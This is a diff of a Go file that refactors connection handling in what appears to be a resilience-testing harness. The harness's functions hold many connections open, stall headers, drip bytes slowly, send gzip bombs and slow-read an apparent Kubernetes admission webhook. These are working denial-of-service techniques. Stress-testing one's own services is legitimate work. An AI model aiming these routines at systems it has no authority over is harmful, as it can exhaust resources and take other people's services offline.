@@ -45,14 +45,24 @@ const (
 	rest  = time.Second
 )
 
-// hold keeps n connections, each living as live says, and makes those anew that
-// end, after a pause.
-func hold(ctx context.Context, n int, pause time.Duration, live func(ctx context.Context) error) {
+// hold keeps n connections, each made by dial and living as live says, and makes
+// those anew that end, after a pause. They are closed when ctx ends.
+func hold(ctx context.Context, n int, pause time.Duration, tally *Tally, dial func(context.Context) (net.Conn, error), live func(net.Conn) error) {
+	one := func() error {
+		conn, err := dial(ctx)
+		if err != nil {
+			return err
+		}
+		defer func() { _ = conn.Close() }()
+		defer context.AfterFunc(ctx, func() { _ = conn.Close() })()
+		tally.Connections.Add(1)
+		return live(conn)
+	}
 	var wg sync.WaitGroup
 	for range n {
 		wg.Go(func() {
 			for ctx.Err() == nil {
-				_ = live(ctx) // whatever ends a connection, the next one follows
+				_ = one() // whatever ends a connection, the next one follows
 				select {
 				case <-ctx.Done():
 				case <-time.After(pause):
@@ -63,26 +73,35 @@ func hold(ctx context.Context, n int, pause time.Duration, live func(ctx context
 	wg.Wait()
 }
 
-// dial connects and, unless raw, shakes hands. The connection is closed when ctx
-// ends.
-func (t Target) dial(ctx context.Context, raw bool, tally *Tally) (net.Conn, func(), error) {
+// connect connects and does not shake hands.
+func (t Target) connect(ctx context.Context) (net.Conn, error) {
 	d := net.Dialer{Timeout: 5 * time.Second}
-	conn, err := d.DialContext(ctx, "tcp", t.Address)
+	return d.DialContext(ctx, "tcp", t.Address)
+}
+
+// handshake connects and shakes hands.
+func (t Target) handshake(ctx context.Context) (net.Conn, error) {
+	conn, err := t.connect(ctx)
 	if err != nil {
-		return nil, nil, err
-	}
-	stop := context.AfterFunc(ctx, func() { _ = conn.Close() })
-	end := func() { stop(); _ = conn.Close() }
-	tally.Connections.Add(1)
-	if raw {
-		return conn, end, nil
+		return nil, err
 	}
 	secured := tls.Client(conn, t.TLS)
 	if err := secured.HandshakeContext(ctx); err != nil {
-		end()
-		return nil, nil, err
+		_ = conn.Close()
+		return nil, err
 	}
-	return secured, end, nil
+	return secured, nil
+}
+
+// request counts and sends the parts of a request, and waits for what comes.
+func (tally *Tally) request(conn net.Conn, parts ...[]byte) error {
+	tally.Requests.Add(1)
+	for _, part := range parts {
+		if _, err := conn.Write(part); err != nil {
+			return err
+		}
+	}
+	return drain(conn)
 }
 
 // drain reads until the other side closes.
@@ -94,28 +113,14 @@ func drain(conn net.Conn) error {
 // Strangers hold n connections and never shake hands.
 func Strangers(n int) Attack {
 	return func(ctx context.Context, t Target, tally *Tally) {
-		hold(ctx, n, pause, func(ctx context.Context) error {
-			conn, end, err := t.dial(ctx, true, tally)
-			if err != nil {
-				return err
-			}
-			defer end()
-			return drain(conn)
-		})
+		hold(ctx, n, pause, tally, t.connect, drain)
 	}
 }
 
 // Silent holds n connections that have shaken hands and send no request.
 func Silent(n int) Attack {
 	return func(ctx context.Context, t Target, tally *Tally) {
-		hold(ctx, n, rest, func(ctx context.Context) error {
-			conn, end, err := t.dial(ctx, false, tally)
-			if err != nil {
-				return err
-			}
-			defer end()
-			return drain(conn)
-		})
+		hold(ctx, n, rest, tally, t.handshake, drain)
 	}
 }
 
@@ -129,21 +134,7 @@ func (t Target) head(size int, more string) string {
 func part(n, size, sent int) Attack {
 	body := bytes.Repeat([]byte(" "), sent)
 	return func(ctx context.Context, t Target, tally *Tally) {
-		hold(ctx, n, pause, func(ctx context.Context) error {
-			conn, end, err := t.dial(ctx, false, tally)
-			if err != nil {
-				return err
-			}
-			defer end()
-			tally.Requests.Add(1)
-			if _, err := io.WriteString(conn, t.head(size, "")); err != nil {
-				return err
-			}
-			if _, err := conn.Write(body); err != nil {
-				return err
-			}
-			return drain(conn)
-		})
+		hold(ctx, n, pause, tally, t.handshake, func(conn net.Conn) error { return tally.request(conn, []byte(t.head(size, "")), body) })
 	}
 }
 
@@ -162,18 +153,7 @@ func Bomb(n, size int) Attack {
 	_ = w.Close()
 	return func(ctx context.Context, t Target, tally *Tally) {
 		request := append([]byte(t.head(zipped.Len(), "Content-Encoding: gzip\r\nConnection: close\r\n")), zipped.Bytes()...)
-		hold(ctx, n, pause, func(ctx context.Context) error {
-			conn, end, err := t.dial(ctx, false, tally)
-			if err != nil {
-				return err
-			}
-			defer end()
-			tally.Requests.Add(1)
-			if _, err := conn.Write(request); err != nil {
-				return err
-			}
-			return drain(conn)
-		})
+		hold(ctx, n, pause, tally, t.handshake, func(conn net.Conn) error { return tally.request(conn, request) })
 	}
 }
 
@@ -192,12 +172,7 @@ func (blanks) Read(p []byte) (int, error) {
 func Drip(n int, interval time.Duration) Attack {
 	return func(ctx context.Context, t Target, tally *Tally) {
 		var turn atomic.Int64
-		hold(ctx, n, pause, func(ctx context.Context) error {
-			conn, end, err := t.dial(ctx, false, tally)
-			if err != nil {
-				return err
-			}
-			defer end()
+		hold(ctx, n, pause, tally, t.handshake, func(conn net.Conn) error {
 			tally.Requests.Add(1)
 			request := t.head(1<<20, "")
 			if turn.Add(1)%2 == 0 {
@@ -227,17 +202,8 @@ func Drip(n int, interval time.Duration) Attack {
 func Stall(n, size int) Attack {
 	field := strings.Repeat("x", size)
 	return func(ctx context.Context, t Target, tally *Tally) {
-		hold(ctx, n, rest, func(ctx context.Context) error {
-			conn, end, err := t.dial(ctx, false, tally)
-			if err != nil {
-				return err
-			}
-			defer end()
-			tally.Requests.Add(1)
-			if _, err := io.WriteString(conn, strings.TrimSuffix(t.head(1, "X-Stall: "+field), "\r\n")); err != nil {
-				return err
-			}
-			return drain(conn)
+		hold(ctx, n, rest, tally, t.handshake, func(conn net.Conn) error {
+			return tally.request(conn, []byte(strings.TrimSuffix(t.head(1, "X-Stall: "+field), "\r\n")))
 		})
 	}
 }
@@ -249,12 +215,7 @@ func Deaf(n int, interval time.Duration) Attack {
 		`"kind":{"group":"","version":"v1","kind":"ConfigMap"},"resource":{"group":"","version":"v1","resource":"configmaps"},"namespace":"shop","object":{}}}`
 	return func(ctx context.Context, t Target, tally *Tally) {
 		request := t.head(len(review), "") + review
-		hold(ctx, n, pause, func(ctx context.Context) error {
-			conn, end, err := t.dial(ctx, false, tally)
-			if err != nil {
-				return err
-			}
-			defer end()
+		hold(ctx, n, pause, tally, t.handshake, func(conn net.Conn) error {
 			tick := time.NewTicker(interval)
 			defer tick.Stop()
 			for {
